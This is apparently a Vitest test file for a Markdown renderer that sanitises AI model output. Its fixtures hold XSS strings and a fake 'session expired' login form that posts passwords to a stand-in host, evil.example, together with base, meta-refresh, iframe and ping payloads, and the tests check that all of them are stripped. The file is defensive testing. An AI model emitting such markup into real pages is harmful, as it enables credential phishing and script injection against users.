// @vitest-environment jsdom
// DOMPurify needs a faithful DOM to sanitise; happy-dom is not one, jsdom is (and so is the browser).
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './useMarkdown';

describe('renderMarkdown', () => {
  it('renders GFM and highlights fenced code', () => {
    const html = renderMarkdown('# Title\n\n- a\n- b\n\n```ts\nconst x: number = 1;\n```');
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<li>a</li>');
    expect(html).toMatch(/<pre class="code"><code class="hljs language-ts"><span class="hljs-keyword">const<\/span>/);
  });

  it('strips scripts and event handlers from model output', () => {
    const html = renderMarkdown('hi <script>alert(1)</script><img src=x onerror="alert(2)"> [x](javascript:alert(3))');
    expect(html).not.toMatch(/<script|onerror|javascript:/i);
  });

  it('escapes code in unknown languages and opens links in a new tab', () => {
    expect(renderMarkdown('```nope\n<b>x</b>\n```')).toContain('&lt;b&gt;x&lt;/b&gt;');
    expect(renderMarkdown('[pi](https://example.com)')).toContain('rel="noopener noreferrer"');
  });

  it('shows an unclosed fence (mid-stream) as code', () => {
    expect(renderMarkdown('Here:\n```bash\necho hi')).toContain('<pre class="code">');
  });

  describe('a fake login drawn by the model (issue 12.8)', () => {
    const hostile = [
      '<form action="https://evil.example/steal" method="post"><label>Session expired, sign in</label>',
      '<input type="password" name="pw" autofocus><input type="submit" value="Sign in"><button formaction="https://evil.example/b">Go</button>',
      '<select><option>x</option></select><textarea>t</textarea></form>',
      '<style>body{visibility:hidden} .fake{visibility:visible}</style>',
      '<div style="position:fixed;inset:0;background:#000" class="auth-page fake">overlay</div>',
      '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
      '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><dialog open>d</dialog>',
      '<a href="https://example.com" target="_self" ping="https://evil.example/p">link</a>',
    ].join('\n');

    it('drops forms, controls, styles, base, frames and foreign classes, keeping the text', () => {
      const html = renderMarkdown(`Hello\n\n${hostile}`);
      expect(html).not.toMatch(/<(form|input|button|select|option|textarea|label|style|base|link|meta|iframe|object|embed|dialog)\b/i);
      expect(html).not.toMatch(/\s(style|action|formaction|method|ping|autofocus)=/i);
      expect(html).not.toMatch(/auth-page|fake/);
      expect(html).toContain('overlay');
      expect(html).toContain('Session expired, sign in');
      // links still open in a new tab with no opener, whatever target the markup asked for
      expect(html).toContain('target="_blank"');
      expect(html).not.toContain('_self');
    });

    it('leaves no form control in the parsed DOM either (mutation-safe)', () => {
      const host = document.createElement('div');
      host.innerHTML = renderMarkdown(hostile);
      expect(host.querySelectorAll('form, input, button, select, textarea, style, base, iframe, [style]').length).toBe(0);
    });

    it('keeps the classes of highlighted code', () => {
      const html = renderMarkdown('```ts\nfunction f() { return 1 }\n```');
      expect(html).toContain('class="hljs language-ts"');
      // highlight.js versions differ in the scope suffix (`function_`); both must survive.
      expect(html).toMatch(/<span class="hljs-title( function_)?">f<\/span>/);
    });
  });
});
